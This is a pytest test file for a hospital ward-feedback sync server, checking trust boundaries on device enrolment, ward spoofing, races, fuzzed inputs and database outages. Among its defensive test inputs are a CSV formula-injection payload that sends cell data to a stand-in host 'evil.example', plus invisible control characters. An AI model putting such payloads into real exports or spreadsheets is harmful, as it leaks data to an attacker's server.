"""Trust boundaries: a device speaks only for its own ward, enrolment cannot take a device
over, a key's uses are exact under a race, and no input gets a 5xx. SQLite and PostgreSQL."""

from __future__ import annotations

import csv
import io
import json
import sqlite3
import threading
import uuid

import pytest
import sqlalchemy as sa
from fastapi.testclient import TestClient
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from sync.server import devices, schema
from sync.server.app import create_app
from sync.server.ingest import ingest
from sync.server.web.auth import SESSION_COOKIE
from tests.server import queries
from tests.server.conftest import ADMIN, WARD_7, auth, batch, enrol, response
from tests.server.databases import assert_brought_up_once, start_together


def _push(client, token, *items):
    return client.post("/api/v1/responses/batch", json=batch(*items), headers=auth(token))


def _enrol_request(key: str, device_id: str, **changes: str) -> dict[str, str]:
    return {
        "enrollment_key": key,
        "device_id": device_id,
        "name": "tablet",
        "app_version": "0.1.0",
        **changes,
    }


# -- a device speaks for its own ward only -------------------------------------------------


@pytest.mark.parametrize(
    "elsewhere",
    [{"ward_name": "Ward B"}, {"site_code": "RXX99"}, {"org_code": "RXX"}, {"ward_name": "ward 7"}],
)
def test_a_device_cannot_report_for_another_place(client, engine, device_token, elsewhere):
    mine, theirs = response(), response(**elsewhere)
    reply = _push(client, device_token, mine, theirs)
    assert reply.status_code == 200
    body = reply.json()
    assert body["accepted"] == [mine["id"]]
    (rejection,) = body["rejected"]
    assert rejection["id"] == theirs["id"]
    assert "Ward 7" in rejection["reason"] and "kiosk.toml" in rejection["reason"]
    assert queries.response_ids(engine) == [mine["id"]]
    csv_rows = client.get(
        "/api/v1/reports/fft", params={"period": "2026-11", "format": "csv"}, headers=auth(ADMIN)
    ).text.splitlines()
    assert len(csv_rows) == 2 and ",Ward 7," in csv_rows[1]


# -- enrolment cannot take a device over ---------------------------------------------------


def test_another_orgs_key_cannot_take_over_an_enrolled_device(client, engine):
    device_id = str(uuid.uuid4())
    victim_key = devices.create_key(engine, WARD_7)
    reply = client.post("/api/v1/devices/enroll", json=_enrol_request(victim_key, device_id))
    victim_token = reply.json()["device_token"]
    attacker_key = devices.create_key(engine, devices.Place("RXX", "RXX01", "Ward A"), uses=1)

    reply = client.post("/api/v1/devices/enroll", json=_enrol_request(attacker_key, device_id))

    assert reply.status_code == 409
    assert "already enrolled" in reply.json()["detail"] and "revoke" in reply.json()["detail"]
    assert _push(client, victim_token, response()).json()["accepted"]
    (device,) = devices.list_devices(engine)
    assert (device["device_id"], device["org_code"], device["ward_name"]) == (
        device_id,
        "RWD",
        "Ward 7",
    )
    # The refused attempt did not use up the single-use key.
    assert [k["uses_left"] for k in devices.list_keys(engine) if k["org_code"] == "RXX"] == [1]


def test_someone_elses_token_does_not_open_the_door_either(client, engine):
    device_id = str(uuid.uuid4())
    key = devices.create_key(engine, WARD_7)
    client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id))
    other_token = enrol(client, engine)
    reply = client.post(
        "/api/v1/devices/enroll", json=_enrol_request(key, device_id), headers=auth(other_token)
    )
    assert reply.status_code == 409


def test_a_device_re_enrols_with_its_own_token(client, engine):
    device_id = str(uuid.uuid4())
    key = devices.create_key(engine, WARD_7)
    old = client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id)).json()
    moved = devices.create_key(engine, devices.Place("RWD", "RWDLA", "Ward 8"))
    reply = client.post(
        "/api/v1/devices/enroll",
        json=_enrol_request(moved, device_id),
        headers=auth(old["device_token"]),
    )
    assert reply.status_code == 201 and reply.json()["ward_name"] == "Ward 8"
    assert _push(client, old["device_token"], response()).status_code == 401
    new = reply.json()["device_token"]
    assert _push(client, new, response(ward_name="Ward 8")).json()["accepted"]


def test_a_revoked_device_can_be_enrolled_again(client, engine):
    device_id = str(uuid.uuid4())
    key = devices.create_key(engine, WARD_7)
    client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id))
    assert devices.revoke_device(engine, device_id)
    reply = client.post("/api/v1/devices/enroll", json=_enrol_request(key, device_id))
    assert reply.status_code == 201
    assert _push(client, reply.json()["device_token"], response()).json()["accepted"]


def test_a_single_use_key_raced_by_twenty_enrolments_enrols_one_device(engine):
    key = devices.create_key(engine, WARD_7, uses=1)
    start = threading.Barrier(20)
    outcomes: list[str] = []

    def attempt() -> None:
        start.wait()
        try:
            devices.enroll(engine, key, str(uuid.uuid4()), "tablet", "0.1.0")
            outcomes.append("enrolled")
        except devices.EnrollmentRefused:
            outcomes.append("refused")

    threads = [threading.Thread(target=attempt) for _ in range(20)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["enrolled"] + ["refused"] * 19
    assert len(devices.list_devices(engine)) == 1
    assert devices.list_keys(engine)[0]["uses_left"] == 0


def test_one_new_device_id_enrolled_twice_at_once_is_one_device(engine):
    key = devices.create_key(engine, WARD_7)
    device_id = str(uuid.uuid4())
    start = threading.Barrier(8)
    outcomes: list[str] = []

    def attempt() -> None:
        start.wait()
        try:
            devices.enroll(engine, key, device_id, "tablet", "0.1.0")
            outcomes.append("enrolled")
        except devices.DeviceTaken:
            outcomes.append("taken")

    threads = [threading.Thread(target=attempt) for _ in range(8)]
    for thread in threads:
        thread.start()
    for thread in threads:
        thread.join()
    assert sorted(outcomes) == ["enrolled"] + ["taken"] * 7
    assert len(devices.list_devices(engine)) == 1


# -- no input gets a 5xx -------------------------------------------------------------------


@pytest.mark.parametrize(
    "answered_at", ["0001-01-01T00:00:00+01:00", "9999-12-31T23:59:59-01:00"]
)
def test_answers_at_the_ends_of_the_calendar_are_a_422(client, engine, device_token, answered_at):
    reply = _push(client, device_token, response(answered_at=answered_at))
    assert reply.status_code == 422
    assert "clock" in reply.json()["detail"]
    assert queries.count_responses(engine) == 0


@pytest.mark.parametrize(
    "period", ["0000-01", "0001-01", "٢٠٢٦-١١", "２０２６-１１", "2026-١١", "9999-12", "2026-13"]
)
@pytest.mark.parametrize("fmt", ["json", "csv"])
def test_impossible_periods_are_a_400_that_says_what_to_send(client, period, fmt):
    reply = client.get(
        "/api/v1/reports/fft", params={"period": period, "format": fmt}, headers=auth(ADMIN)
    )
    assert reply.status_code == 400, reply.text
    assert "YYYY-MM" in reply.json()["detail"] or "choose a month" in reply.json()["detail"]


def test_a_nul_in_a_comment_is_dropped_and_the_answer_kept(client, engine, device_token):
    item = response(comment="fine\x00 thanks", rating=2)
    reply = _push(client, device_token, item)
    assert reply.json()["accepted"] == [item["id"]]
    with engine.connect() as conn:
        row = conn.execute(sa.select(schema.responses.c.comment, schema.responses.c.rating)).one()
    assert (row.comment, row.rating) == ("fine thanks", 2)
    # The kiosk resending the same response is a duplicate, not a conflict.
    assert _push(client, device_token, item).json()["duplicate"] == [item["id"]]


@pytest.mark.parametrize("field", ["ward_name", "site_code", "survey_id", "language"])
def test_a_nul_in_a_name_is_a_422(client, engine, device_token, field):
    reply = _push(client, device_token, response(**{field: "Ward\x007"}))
    assert reply.status_code == 422 and field in reply.json()["detail"]
    assert queries.count_responses(engine) == 0


@pytest.mark.parametrize("field", ["name", "app_version"])
@pytest.mark.parametrize("text", ["tablet\x00", "tab\nlet", "\x1b[31mred"])
def test_control_characters_in_a_device_name_are_a_422(client, engine, field, text):
    key = devices.create_key(engine, WARD_7)
    reply = client.post(
        "/api/v1/devices/enroll", json=_enrol_request(key, str(uuid.uuid4()), **{field: text})
    )
    assert reply.status_code == 422 and field in reply.json()["detail"]
    assert devices.list_devices(engine) == []


@pytest.mark.parametrize(
    "body",
    [b"{", b"[]", b'{"batch_id": 1}', json.dumps(batch(response(rating="x"))).encode()],
)
@pytest.mark.parametrize("token", [None, "f" * 43])
def test_a_bad_token_hears_about_its_token_before_the_body(client, body, token):
    headers = {"Content-Type": "application/json", **(auth(token) if token else {})}
    reply = client.post("/api/v1/responses/batch", content=body, headers=headers)
    assert reply.status_code == 401
    assert "token" in reply.json()["detail"] and "body" not in reply.json()["detail"]


def test_a_good_token_hears_what_is_wrong_with_the_body(client, device_token):
    reply = client.post(
        "/api/v1/responses/batch",
        content=b"{",
        headers={"Content-Type": "application/json", **auth(device_token)},
    )
    assert reply.status_code == 422


_json = st.recursive(
    st.none()
    | st.booleans()
    | st.integers()
    | st.floats(allow_nan=False, allow_infinity=False)
    | st.text(),
    lambda inner: st.lists(inner, max_size=4) | st.dictionaries(st.text(), inner, max_size=4),
    max_leaves=12,
)
_odd_text = st.text(
    st.characters(codec="utf-8", categories=["Cc", "Cf", "Zs", "Lo", "Nd", "Sm", "L"]),
    max_size=120,
)
_fields = st.sampled_from(sorted(response()))


@settings(
    max_examples=150,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(field=_fields, value=_json | _odd_text)
def test_no_field_value_ever_gets_a_5xx(client, device_token, field, value):
    reply = _push(client, device_token, response(**{field: value}))
    assert reply.status_code < 500, (field, value, reply.text[:300])
    assert isinstance(reply.json().get("detail", ""), str)


@settings(
    max_examples=100,
    deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
)
@given(
    field=st.sampled_from(["enrollment_key", "device_id", "name", "app_version"]),
    value=_json | _odd_text,
)
def test_no_enrolment_value_ever_gets_a_5xx(client, engine, field, value):
    body = _enrol_request(devices.new_secret(), str(uuid.uuid4()))
    body[field] = value
    reply = client.post("/api/v1/devices/enroll", json=body)
    assert reply.status_code < 500, (field, value, reply.text[:300])


# -- several servers starting together -------------------------------------------------------


@pytest.mark.slow
@pytest.mark.parametrize("trial", range(5))
def test_four_servers_start_together_on_a_fresh_database(empty_url, trial):
    for result in start_together(empty_url):
        assert result.returncode == 0, result.stderr[-2000:]
    assert_brought_up_once(empty_url)


# -- spreadsheet formulas never reach a spreadsheet ------------------------------------------


@pytest.mark.parametrize(
    "ward", ['=HYPERLINK("http://evil.example/?"&A1,"Click")', "+1+1", "-2+3", "@SUM(A1)"]
)
def test_a_ward_name_cannot_become_a_formula_in_the_nhs_csv(client, engine, ward):
    token = enrol(client, engine, devices.Place("RWD", "RWDLA", ward))
    assert _push(client, token, response(ward_name=ward)).json()["accepted"]
    reply = client.get(
        "/api/v1/reports/fft", params={"period": "2026-11", "format": "csv"}, headers=auth(ADMIN)
    )
    header, row = list(csv.reader(io.StringIO(reply.text)))
    assert len(header) == len(row) == 15
    assert row[4] == "'" + ward
    assert row[7:14] == ["1", "0", "0", "0", "0", "0", "1"]


# -- found by the second attack ------------------------------------------------------------


@pytest.mark.parametrize("when", ["1764230000", "1764230000000", "2026-11-10", "2026-11-10T14:30"])
def test_answered_at_must_be_an_rfc3339_time_not_a_unix_time(client, engine, device_token, when):
    reply = _push(client, device_token, response(answered_at=when))
    assert reply.status_code == 422 and "RFC 3339" in reply.json()["detail"]
    assert queries.count_responses(engine) == 0


def test_a_batch_sends_each_response_once(client, engine, device_token):
    item = response()
    reply = _push(client, device_token, item, dict(item, comment="other"))
    assert reply.status_code == 422 and "only once" in reply.json()["detail"]
    assert queries.count_responses(engine) == 0


@pytest.mark.parametrize("name", ["tab\u0085let", "tablet\u202ereversed", "a\u2066b"])
def test_invisible_controls_in_a_device_name_are_a_422(client, engine, name):
    key = devices.create_key(engine, WARD_7)
    reply = client.post(
        "/api/v1/devices/enroll", json=_enrol_request(key, str(uuid.uuid4()), name=name)
    )
    assert reply.status_code == 422


def test_an_oversized_chunked_enrolment_is_a_413(client):
    def chunks():
        yield b'{"enrollment_key": "'
        for _ in range(300):
            yield b"k" * 10_000
        yield b'"}'

    reply = client.post(
        "/api/v1/devices/enroll", content=chunks(), headers={"Content-Type": "application/json"}
    )
    assert reply.status_code == 413 and "MB" in reply.json()["detail"]


def test_two_batches_of_the_same_ids_crossing_store_each_once(engine):
    # On PostgreSQL two transactions inserting the same rows in opposite orders deadlock;
    # ingest inserts in id order and retries a transaction the database rolled back.
    key = devices.create_key(engine, WARD_7)
    token, _ = devices.enroll(engine, key, str(uuid.uuid4()), "tablet", "1")
    from sync.protocol import Response

    errors: list[BaseException] = []

    def push(start: threading.Barrier, order: list[Response]) -> None:
        start.wait()
        try:
            ingest(engine, token, str(uuid.uuid4()), order)
        except BaseException as exc:
            errors.append(exc)

    for _ in range(10):
        items = [Response.model_validate(response()) for _ in range(50)]
        start = threading.Barrier(2)
        threads = [
            threading.Thread(target=push, args=(start, items)),
            threading.Thread(target=push, args=(start, items[::-1])),
        ]
        for thread in threads:
            thread.start()
        for thread in threads:
            thread.join()
    assert errors == []
    assert queries.count_responses(engine) == 500


def test_a_database_too_busy_to_serve_is_a_503_and_the_batch_stores_once_later(
    client, engine, device_token
):
    # One connection, which the test holds: every other request waits for it, then gives up.
    busy = sa.create_engine(engine.url, pool_size=1, max_overflow=0, pool_timeout=0.2)
    waiting = TestClient(create_app(busy, ADMIN))
    sent = batch(response(rating=2))
    with busy.connect():
        reply = waiting.post("/api/v1/responses/batch", json=sent, headers=auth(device_token))
        assert reply.status_code == 503 and reply.headers["Retry-After"] == "30"
        assert "send again later" in reply.json()["detail"]
        # A signed-in person's page: the session is looked up in the database.
        waiting.cookies.set(SESSION_COOKIE, "a-session-id")
        page = waiting.get("/", follow_redirects=False)
        assert page.status_code == 503 and "Try again in a minute" in page.text
        missing = waiting.get("/no-such-page", follow_redirects=False)  # drawn with the session
        assert missing.status_code == 503 and "Try again in a minute" in missing.text
    assert queries.count_responses(engine) == 0
    again = waiting.post("/api/v1/responses/batch", json=sent, headers=auth(device_token))
    assert again.status_code == 200 and again.json()["accepted"] == [sent["responses"][0]["id"]]
    assert queries.count_responses(engine) == 1
    busy.dispose()


def test_an_unreachable_database_is_a_503():
    gone = sa.create_engine("postgresql+psycopg://ward:ward@127.0.0.1:1/nowhere")
    reply = TestClient(create_app(gone, ADMIN)).post(
        "/api/v1/responses/batch", json=batch(response()), headers=auth("some-device-token")
    )
    # 503 with Retry-After is "busy, wait" to a kiosk (tests/sync); a 500 would have it
    # look for a response the server cannot store.
    assert reply.status_code == 503 and reply.headers["Retry-After"] == "30"
    assert "cannot reach its database" in reply.json()["detail"]


def test_a_locked_database_is_a_503_whose_log_holds_no_comment(sqlite_engine, caplog):
    client = TestClient(create_app(sqlite_engine, ADMIN))
    token = enrol(client, sqlite_engine)
    impatient = sa.create_engine(sqlite_engine.url, connect_args={"timeout": 0.1})
    words = "Nurse Ratched on bay four was unkind"
    holder = sqlite3.connect(sqlite_engine.url.database)
    holder.execute("BEGIN EXCLUSIVE")  # another process writing, for longer than the timeout
    try:
        reply = TestClient(create_app(impatient, ADMIN)).post(
            "/api/v1/responses/batch", json=batch(response(comment=words)), headers=auth(token)
        )
    finally:
        holder.rollback()
        holder.close()
    assert reply.status_code == 503 and reply.headers["Retry-After"] == "30"
    assert "locked" in caplog.text and "Ratched" not in caplog.text
    assert queries.count_responses(sqlite_engine) == 0
    impatient.dispose()


def test_a_database_error_that_will_not_pass_stays_a_500(sqlite_engine):
    client = TestClient(create_app(sqlite_engine, ADMIN), raise_server_exceptions=False)
    token = enrol(client, sqlite_engine)
    with sqlite_engine.begin() as conn:  # a schema out of step with the code
        conn.exec_driver_sql("DROP TABLE batches")
    reply = client.post("/api/v1/responses/batch", json=batch(response()), headers=auth(token))
    assert reply.status_code == 500 and "Retry-After" not in reply.headers
